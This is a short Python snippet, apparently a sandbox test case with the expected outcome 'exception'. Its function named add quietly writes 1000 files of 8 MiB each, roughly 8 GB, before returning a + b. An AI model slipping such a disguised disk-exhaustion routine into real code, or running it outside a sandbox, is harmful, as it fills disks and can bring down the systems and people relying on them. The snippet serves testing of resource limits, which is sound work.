# outcome: exception
def add(a, b):
    for number in range(1000):
        with open(f"{number}", "wb") as file:
            file.write(bytes(8 << 20))
    return a + b
